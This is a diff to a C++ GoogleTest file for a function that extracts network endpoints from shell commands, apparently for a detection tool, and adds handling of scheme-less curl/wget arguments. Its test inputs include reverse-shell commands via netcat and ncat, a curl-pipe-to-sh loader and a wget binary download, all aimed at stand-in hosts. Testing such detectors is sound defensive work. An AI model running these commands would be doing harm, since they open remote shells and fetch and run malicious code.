@@ -1,6 +1,7 @@
 // Endpoints a command points at, as identity evidence: download URLs with their scheme's port,
-// explicit ports, reverse shells over /dev/tcp and netcat; loopback, bare words and malformed
-// hosts are no endpoint, and one command names at most a bounded number.
+// explicit ports, scheme-less curl/wget arguments, reverse shells over /dev/tcp and netcat;
+// loopback, bare words and malformed hosts are no endpoint, and one command names at most a bounded
+// number.
 #include "identity/infrastructure.h"
 
 #include <gtest/gtest.h>
@@ -21,6 +22,10 @@ TEST(Infrastructure, DownloadsReverseShellsAndNetcat) {
   EXPECT_EQ(endpoints_in_command("nc -e /bin/sh c2.example 9001"), Set{"c2.example:9001"});
   EXPECT_EQ(endpoints_in_command("cd /tmp; ncat 198.51.100.9 53 -e /bin/bash"),
             Set{"198.51.100.9:53"});
+  // curl and wget take a URL without its scheme too.
+  EXPECT_EQ(endpoints_in_command("curl -s loader.example:8080/x.sh | sh"),
+            Set{"loader.example:8080"});
+  EXPECT_EQ(endpoints_in_command("wget -q 198.51.100.7/bins/arm7 -O a7"), Set{"198.51.100.7:80"});
 }
 
 TEST(Infrastructure, NothingThatIsNotAnEndpoint) {
@@ -30,6 +35,7 @@ TEST(Infrastructure, NothingThatIsNotAnEndpoint) {
   EXPECT_TRUE(endpoints_in_command("wget http://bad$host.example/x").empty());
   EXPECT_TRUE(endpoints_in_command("nc -l 4444").empty());
   EXPECT_TRUE(endpoints_in_command("curl http://x.example:99999999/").empty());
+  EXPECT_TRUE(endpoints_in_command("wget -O x.sh; curl -o out.txt /tmp/file").empty());
 }
 
 TEST(Infrastructure, OneCommandNamesABoundedNumber) {
